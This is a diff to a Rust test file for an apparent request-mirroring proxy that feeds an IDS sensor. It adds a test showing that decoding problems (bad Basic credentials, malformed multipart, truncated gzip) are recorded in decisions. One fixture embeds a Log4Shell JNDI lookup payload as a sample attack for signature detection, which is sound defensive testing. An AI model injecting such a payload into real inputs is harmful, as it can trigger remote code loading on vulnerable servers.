@@ -897,6 +897,7 @@ fn dispatch_headers_drop_what_must_not_reach_the_sensor_and_say_why() {
         rule: None,
         signatures: vec!["log4shell".into(), "acme".into()],
         signature_rules: vec![],
+        findings: Vec::new(),
     };
     let ids = &p.targets()[1];
     assert_eq!(ids.name, "ids");
@@ -945,6 +946,7 @@ fn dispatch_headers_keep_secrets_when_asked_and_replace_the_authority() {
         rule: Some("rest".into()),
         signatures: Vec::new(),
         signature_rules: vec![],
+        findings: Vec::new(),
     };
     let h = dispatch_headers(&p, &p.targets()[0], &s.request(), &d, false);
     assert_eq!(header_of(&h, "authorization"), vec!["Bearer t"]);
@@ -981,6 +983,7 @@ fn dispatch_headers_carry_provenance_from_the_connection_never_from_the_client()
         rule: None,
         signatures: vec!["log4shell".into()],
         signature_rules: Vec::new(),
+        findings: Vec::new(),
     };
     let h = dispatch_headers(&p, &p.targets()[0], &request, &d, false);
     assert_eq!(header_of(&h, "x-forwarded-for"), vec!["10.1.2.3"]);
@@ -1107,4 +1110,50 @@ fn a_worker_that_stopped_holding_lets_an_allowed_request_flow_while_reading_its_
         s.copy.reading_body(),
         "the body is still scanned as it passes"
     );
+}
+
+/// What decoding found wrong reaches the recorded decision, copied or not: at the head (invalid
+/// `Basic` credentials), after a held body (a malformed multipart form, a gzip stream cut
+/// short), and beside a signature hit.
+#[test]
+fn decoding_findings_are_recorded_in_the_decision() {
+    let mut w = Worker::new(HEADER_HOLD);
+    let mut s = Stream::get("/admin").header("authorization", "Basic $$$not*base64$$$");
+    let step = w.head(&mut s, true);
+    let d = decision(&step);
+    assert!(!d.mirrored);
+    assert_eq!(d.findings, ["basic_credentials_invalid"]);
+
+    let unclosed = b"--b\r\nContent-Disposition: form-data; name=a\r\n\r\nok\r\n";
+    let mut s = Stream::post("/upload", "multipart/form-data; boundary=b")
+        .header("content-length", &unclosed.len().to_string());
+    assert_eq!(w.head(&mut s, false).flow, Flow::Hold);
+    let step = w.body(&mut s, unclosed, true).unwrap();
+    assert_eq!(decision(&step).findings, ["multipart_malformed"]);
+    assert_eq!(decision(&step).reason, MirrorReason::NotSelected);
+
+    let gzip = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255, 0x4b, 0x4c];
+    let mut s = Stream::post("/api", "application/json").header("content-encoding", "gzip");
+    assert_eq!(w.head(&mut s, false).flow, Flow::Hold);
+    let step = w.body(&mut s, &gzip, true).unwrap();
+    assert_eq!(decision(&step).findings, ["body_encoding_broken"]);
+
+    let mut s = Stream::post("/api", "multipart/form-data; boundary=b");
+    w.head(&mut s, false);
+    let attack = b"--b\r\nContent-Disposition: form-data; name=q\r\n\r\n${jndi:ldap://e/a}\r\n";
+    let step = w.body(&mut s, attack, true).unwrap();
+    let d = decision(&step);
+    assert_eq!(
+        (d.reason, d.signatures.as_slice(), d.findings.as_slice()),
+        (
+            MirrorReason::Signature,
+            &["log4shell".to_string()][..],
+            &["multipart_malformed".to_string()][..]
+        )
+    );
+
+    let mut s = Stream::post("/api", "application/json");
+    w.head(&mut s, false);
+    let step = w.body(&mut s, br#"{"q":"shoes"}"#, true).unwrap();
+    assert!(decision(&step).findings.is_empty());
 }
